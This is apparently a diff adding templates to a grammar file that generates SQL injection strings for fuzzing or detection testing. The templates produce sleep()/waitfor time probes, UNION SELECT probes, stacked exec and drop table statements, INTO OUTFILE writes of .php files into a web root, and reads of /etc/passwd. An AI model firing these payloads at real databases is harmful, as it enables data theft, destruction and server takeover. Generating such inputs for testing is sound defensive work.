@@ -842,4 +842,89 @@ sqli/wordpress 2: ‹n›) AND (SELECT ‹#1000-9999› FROM (SELECT(SLEEP(‹#1
   ´‹~2-6›´ where ‹=a:‹n››=‹=a› and sleep(‹#1-9›)‹sqlend›
   ‹col›´ and sleep(‹#1-9›) and ´‹col›´=´‹col›
   ‹n›' and updatexml(1,concat(0x7e,(select md5(‹#100000-999999999›)),0x7e),1) and '‹=a:‹n››'='‹=a›
+sq.quote: 8× '
+  3× "
+  ´
+sq.logic: 6× or
+  4× and
+  3× OR
+  3× AND
+  ‹mixed!or›
+  ‹mixed!and›
+  ||
+  &&
+  xor
+  XOR
+  and not
+  or not
+  div
+  like
+  where
+  having
+sq.compare = = = = = = = <> != > < >= <= <=> like LIKE rlike RLIKE regexp ~ == !< sounds␠like not␠like is is␠not between in
+sq.arith = + - * / % ^ | & || << >> - + || ~ div mod collate and or xor && = < > <> <=> >= != like rlike
+sq.number: ‹n›
+  -‹#1-99›
+  (‹n›)
+  (-‹n›)
+  ((‹n›))
+  ‹#0-99›.‹#0-99›
+  ‹#1-9›e‹#0-9›
+  0x‹%1-8›
+  ~‹#0-9›
+  !‹#0-1›
+  null
+  true
+  false
+  pi()
+  @@version
+  ‹fl.name›(‹#0-9›)
+fl.name = floor ceil sin cos abs exp sqrt ascii char length hex bin rand round sleep
+sq.space: 10× ␠
+  2× ∅
+  +
+  /**/
+  ⇥
+  ␠␠
+sqli/operands 6: ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹=a:‹anyword››‹=q›‹¦ ›‹sq.compare›‹¦ ›‹=q›‹=a›
+  2× ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹=a:‹anyword››‹=q›=‹=q›‹=a›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹=a:‹anyword››‹=q›=‹=q›‹=a›‹=q›‹s›‹sqlend›
+  ‹anyword›‹=q:‹sq.quote››) ‹sq.logic› (‹=q›‹=a:‹anyword››‹=q›=‹=q›‹=a›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=q›‹anyword›‹=q›‹sq.compare›‹=q›‹anyword›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹col› ‹sq.compare› ‹=q›‹anyword›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹=a:‹sq.number››‹sq.compare›‹=a›‹sq.space›‹sq.logic›‹sq.space›‹=q›‹anyword›‹=q›=‹=q›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.arith›‹sq.space›‹=q›‹anyword›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.arith›‹sq.space›‹sq.number›‹sq.space›‹sq.compare›‹sq.space›‹=q›‹anyword›
+  ‹anyword›‹=q:‹sq.quote››‹sq.arith›‹sq.number›‹sq.space›‹sq.arith›‹sq.space›‹sq.number›‹sq.compare›‹=q›‹anyword›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.arith›‹sq.space›‹=q›‹anyword›‹=q›‹sq.space›‹sq.arith›‹sq.space›‹sq.number›‹sq.space›‹sq.compare›‹sq.space›‹=q›‹anyword›
+  ‹=q:‹sq.quote››‹¦ ›‹sq.arith›‹¦ ›‹=q›
+  ‹=q:‹sq.quote››‹¦ ›not ‹rlike¦like¦between¦in¦regexp›‹¦ ›‹=q›
+  ‹anyword›‹sq.space›‹sq.logic›‹sq.space›‹sq.number›‹sq.compare›‹sq.number›
+  ‹sq.number›‹sq.space›‹sq.logic›‹sq.space›‹sq.number›‹sq.compare›‹sq.number›
+  ‹sq.number›‹sq.arith›‹anyword› ‹sq.logic› ‹sq.number›‹sq.compare›‹sq.number›
+  ‹anyword›‹=q:‹sq.quote››‹¦ ›‹.¦||¦+¦,›‹¦ ›‹fl.name›(‹#0-99›)‹¦ ›‹.¦||¦+¦,›‹¦ ›‹=q›‹¦‹anyword››
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹fl.name›(‹sq.number›)‹sq.compare›‹sq.number›‹sq.space›‹sqlend›
+  ‹anyword›‹=q:‹sq.quote››‹sq.space›‹sq.logic›‹sq.space›‹fl.name›(‹fl.name›()) ‹sq.logic› ‹fl.name›(‹fl.name›())=‹n›
+  ‹fl.name›(‹fl.name›()) ‹sq.logic› ‹fl.name›(‹fl.name›())=‹#0-9›
+sqli/clauses 5: ‹sq.number›‹¦ ›‹q›‹s›ORDER BY ‹#1-40›‹s›‹sqlend›
+  ‹sq.number›‹¦)¦'¦')› ‹order by¦ORDER BY¦group by¦GROUP BY› ‹#1-40›
+  ‹sq.number›‹¦)¦'¦')› ‹INTO¦into› ‹OUTFILE¦DUMPFILE¦outfile› ‹'¦‘¦"¦›‹/tmp/‹~1-6›¦/var/www/html/‹~1-6›.php¦‹~2-6››‹'¦’¦"¦›‹¦--¦ -- ¦#›
+  ‹sq.number›‹UNION¦union¦ union¦ UNION¦/**/union›‹s›‹select¦SELECT¦all select¦ALL SELECT›‹s›‹sq.number›‹¦,‹sq.number›¦,‹sq.number›,‹sq.number››
+  ‹anyword›‹'¦"¦›‹UNION¦union›(‹SELECT¦select› ‹sq.number›)‹¦--¦#›
+  ‹select¦SELECT› ‹fl.name›(‹‹~1-6›¦@‹~1-6›¦(‹~1-4›)¦-‹~1-4››)‹,‹sq.number›¦› ‹from¦FROM› ‹tab›‹ where¦ where ‹col›=‹sq.number›¦›
+  ‹select¦SELECT› ‹-¦+¦~¦!¦›‹fl.name›(‹sq.number›)‹¦,‹sq.number›› ‹from ‹tab› ‹where¦limit 1¦›¦›
+  ‹select¦SELECT› ‹@‹~2-8›¦@@‹~3-9›¦‹sq.number›› ‹~1-6›
+  ‹SELECT¦select› ‹sq.number›‹FROM¦from¦ from ›‹[‹tab›]¦´‹tab›´¦"‹tab›"¦(‹tab›)›‹WHERE¦where¦ where ›‹\1=\1¦‹n›=‹n›¦1¦(1)›‹ and‹n›=‹n›¦AND\1=\1¦›
+  ‹CASE¦case› ‹WHEN¦when› ‹¦BINARY ›‹TRUE¦true¦‹n›=‹n›¦(‹n›)› THEN ‹sq.number› ‹ELSE ‹sq.number› ¦›END‹¦ IS ‹¦NOT ›‹NULL¦UNKNOWN¦TRUE››‹¦ HAVING ‹sq.number›¦ FOR UPDATE¦ UNION SELECT ‹sq.number›¦ LIMIT 1›
+  ‹n›‹'¦"¦)¦›; ‹call¦exec¦execute¦EXEC› ‹~1-8›‹(‹@‹~1-6›¦‹n›¦@@version›‹, @‹~1-3›¦›)¦ ‹n›¦ '‹~1-5›'›
+  ‹n›‹'¦"¦)¦›;‹¦ ›‹declare¦DECLARE› @‹~1-4› ‹int¦varchar(99)¦nvarchar(4000)›;‹set @‹~1-4›=‹sq.number›;¦exec(@‹~1-4›)¦›
+  ‹n›‹'¦"¦)¦›;‹¦ ›‹if¦IF› ‹n›=‹n› ‹waitfor delay '0:0:‹#1-30›'¦select ‹n›¦drop table ‹tab›¦begin select ‹n› end›
+  @‹~2-8› into ‹outfile¦dumpfile› ‹~3-9›('‹~1-5›', ‹#1-20› ‹n›)
+  ‹union¦UNION› ‹all ¦ALL ¦›‹select¦SELECT› ‹^1›‹~2-5›‹To¦As¦›‹^1›‹~2-5›("‹/etc/passwd¦‹~1-6››", "‹~2-6›")‹::‹~2-5›:‹n›¦›,‹sq.number›
+  ‹n›--‹¦+¦ ›
+  ‹n›/*‹¦!¦*/›
+  ‹n› ‹procedure analyse¦PROCEDURE ANALYSE›(‹¦‹sq.number›,‹sq.number››)‹#¦--¦›
+  ‹n›‹'¦"¦)¦› ‹and¦or› ‹exists¦not exists›(select ‹*¦‹n›› from ‹tab›)‹--¦#¦›
+  ‹n› ‹in¦IN› (‹select¦SELECT› ‹col› ‹from¦FROM› ‹tab›)
+  (‹select¦SELECT› ‹sq.number› ‹from¦FROM› (‹select¦SELECT›(‹fl.name›(‹n›)))‹~1-3›)
 `
